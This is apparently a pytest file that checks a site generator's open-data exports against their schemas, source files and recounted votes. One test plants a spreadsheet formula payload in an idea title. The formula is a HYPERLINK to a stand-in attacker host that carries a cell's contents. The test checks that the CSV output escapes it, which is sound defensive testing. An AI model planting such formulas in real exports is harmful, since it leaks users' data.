"""The open data under api/v1/: valid against its published schemas, and true to the files."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from click.testing import CliRunner

from generator.cli.main import cli
from tests.support import EXAMPLE, EXAMPLE_NOW, oracle, people_with_pages

API = Path("api/v1")


def read_json(site: Path, relative: str | Path) -> Any:
    return json.loads((site / relative).read_text("utf-8"))


def documents(site: Path) -> list[Path]:
    return sorted(path for path in (site / API).rglob("*.json") if "schemas" not in path.parts)


def test_every_document_validates_against_the_schema_published_beside_it(
        built_site: Path) -> None:
    found = documents(built_site)
    assert len(found) == 5 + 5  # five documents, and a tally for each of five challenges
    for path in found:
        document = json.loads(path.read_text("utf-8"))
        schema = read_json(built_site, API / "schemas" / f"{document['kind']}.schema.json")
        jsonschema.Draft202012Validator.check_schema(schema)
        validator = jsonschema.Draft202012Validator(
            schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(document)]
        assert not errors, (path, errors[:3])
        assert document["api"] == "cocreate/v1"


def test_a_document_that_breaks_its_schema_is_caught_by_it(built_site: Path) -> None:
    schema = read_json(built_site, API / "schemas/ideas.schema.json")
    document = read_json(built_site, API / "ideas.json")
    document["ideas"][0]["votes"] = "many"
    del document["ideas"][1]["title"]
    errors = list(jsonschema.Draft202012Validator(schema).iter_errors(document))
    assert {tuple(e.absolute_path) for e in errors} >= {("ideas", 0, "votes"), ("ideas", 1)}


def test_the_index_lists_every_file_and_schema_that_exists(built_site: Path) -> None:
    index = read_json(built_site, API / "index.json")
    assert index["site"] == "https://crumb-and-kettle.github.io/ideas"
    # README's table under "Open data" names these files (and the index itself).
    assert sorted(entry["path"] for entry in index["files"]) == [
        f"api/v1/{name}" for name in ("challenges.json", "ideas.csv", "ideas.json",
                                      "people.json", "tallies.csv", "tallies.json",
                                      "tallies/<challenge>.json")]
    for entry in index["files"]:
        if "<challenge>" in entry["path"]:
            assert sorted(path.stem for path in (built_site / API / "tallies").glob("*.json")) \
                == sorted(path.name for path in (EXAMPLE / "challenges").iterdir())
        else:
            assert (built_site / entry["path"]).is_file(), entry["path"]
        if entry["schema_path"]:
            assert (built_site / entry["schema_path"]).is_file()


def yaml_ideas() -> dict[tuple[str, str], dict[str, Any]]:
    """Every idea file, read with plain PyYAML."""
    return {(path.parent.parent.name, path.stem): yaml.safe_load(path.read_text("utf-8"))
            for path in (EXAMPLE / "challenges").glob("*/ideas/*.yml")}


def test_ideas_are_the_files_with_the_leaderboards_votes(built_site: Path) -> None:
    ideas = read_json(built_site, API / "ideas.json")["ideas"]
    files = yaml_ideas()
    assert {(i["challenge"], i["id"]) for i in ideas} == set(files)
    for idea in ideas:
        source = files[idea["challenge"], idea["id"]]
        assert (idea["title"], idea["author"], idea["status"], idea["segment"]) == (
            source["title"], source["author"], source.get("status", "submitted"),
            source["segment"])
        assert [c["status"] for c in idea["history"]] == [
            c["status"] for c in source.get("history") or []]
    # Votes recounted from the ballot files by the independent oracle (tests/support/oracle.py).
    portal = oracle.load(EXAMPLE)
    votes = {(slug, row["id"]): row["votes"] for slug in portal.challenges
             for row in oracle.tally(portal, slug, EXAMPLE_NOW).ranking}
    assert {(i["challenge"], i["id"]): i["votes"] for i in ideas} == votes
    assert sum(votes.values()) > 50
    challenges = read_json(built_site, API / "challenges.json")["challenges"]
    assert {c["slug"]: c["ideas"] for c in challenges} == {
        path.name: len(list(path.glob("ideas/*.yml")))
        for path in (EXAMPLE / "challenges").iterdir()}


def test_people_are_ranked_and_their_ideas_exist(built_site: Path) -> None:
    people = read_json(built_site, API / "people.json")["people"]
    assert {p["login"].lower(): p["points"] for p in people} == \
        oracle.contributor_points(oracle.load(EXAMPLE), EXAMPLE_NOW)
    assert [p["rank"] for p in people] == list(range(1, len(people) + 1))
    assert [p["points"] for p in people] == sorted((p["points"] for p in people), reverse=True)
    files = yaml_ideas()
    voters_only = {p["login"].lower() for p in people} - people_with_pages(EXAMPLE)
    assert voters_only  # the example has some, or the next line would prove little
    assert {p["login"].lower() for p in people if p["page"] is None} == voters_only
    for person in people:
        assert sum(person["earned"].values()) == person["points"]
        for ref in person["ideas"]:
            idea = files[ref["challenge"], ref["id"]]
            assert person["login"] in [idea["author"], *(idea.get("coauthors") or [])]
        if person["page"] is not None:
            assert (built_site / person["page"] / "index.html").is_file()


def test_the_csv_files_hold_the_json_rows(built_site: Path) -> None:
    ideas = read_json(built_site, API / "ideas.json")["ideas"]
    rows = list(csv.DictReader(io.StringIO((built_site / API / "ideas.csv").read_text("utf-8"))))
    assert [(r["challenge"], r["id"], r["title"], int(r["votes"])) for r in rows] == [
        (i["challenge"], i["id"], i["title"], i["votes"]) for i in ideas]
    tallies = read_json(built_site, API / "tallies.json")["challenges"]
    rows = list(csv.DictReader(io.StringIO(
        (built_site / API / "tallies.csv").read_text("utf-8"))))
    assert [(r["challenge"], int(r["rank"]), r["id"], float(r["score"])) for r in rows] == [
        (t["challenge"], row["rank"], row["id"], row["score"])
        for t in tallies for row in t["ideas"]]


def test_text_that_looks_like_a_formula_stays_text_in_the_csv(portal: Path,
                                                              tmp_path: Path) -> None:
    idea = portal / "challenges/winter-menu-2026/ideas/12.yml"
    hostile = '=HYPERLINK("https://evil.example/?"&A1, "click")'
    text = re.sub(r"^title: .*$", "title: '" + hostile.replace("'", "''") + "'",
                  idea.read_text("utf-8"), count=1, flags=re.MULTILINE)
    idea.write_text(text, "utf-8")
    site = tmp_path / "site"
    result = CliRunner().invoke(cli, ["--root", str(portal), "--now", EXAMPLE_NOW.isoformat(),
                                      "build", "--site-dir", str(site)])
    assert result.exit_code == 0, result.output
    for name in ("ideas.csv", "tallies.csv"):
        rows = list(csv.DictReader(io.StringIO((site / API / name).read_text("utf-8"))))
        [row] = [r for r in rows if r["id"] == "12" and r["challenge"] == "winter-menu-2026"]
        assert row["title"] == "'" + hostile
    [entry] = [i for i in read_json(site, API / "ideas.json")["ideas"]
               if i["id"] == "12" and i["challenge"] == "winter-menu-2026"]
    assert entry["title"] == hostile  # the JSON keeps the text exactly


def test_the_open_data_page_links_every_file_and_shows_a_real_example(
        built_site: Path) -> None:
    page = (built_site / "data/index.html").read_text("utf-8")
    index = read_json(built_site, API / "index.json")
    for entry in index["files"]:
        if "<challenge>" not in entry["path"]:
            assert f'href="../{entry["path"]}"' in page, entry["path"]
    blocks = re.findall(r'<code class="language-json">(.*?)</code>', page, flags=re.DOTALL)
    shown = json.loads(html.unescape(re.sub(r"<[^>]+>", "", blocks[0])))
    ideas = read_json(built_site, API / "ideas.json")["ideas"]
    assert shown in ideas


@pytest.mark.parametrize("page", ["leaderboard", "audit"])
def test_leaderboards_and_audits_link_their_tally(built_site: Path, page: str) -> None:
    folders = sorted(folder for folder in (built_site / "challenges").iterdir()
                     if (folder / page / "index.html").is_file())
    # Every challenge has both, an upcoming one too (it says no one has voted yet).
    assert [folder.name for folder in folders] == sorted(
        path.name for path in (EXAMPLE / "challenges").iterdir())
    for folder in folders:
        text = (folder / page / "index.html").read_text("utf-8")
        assert f'href="../../../api/v1/tallies/{folder.name}.json"' in text
        assert (built_site / API / "tallies" / f"{folder.name}.json").is_file()
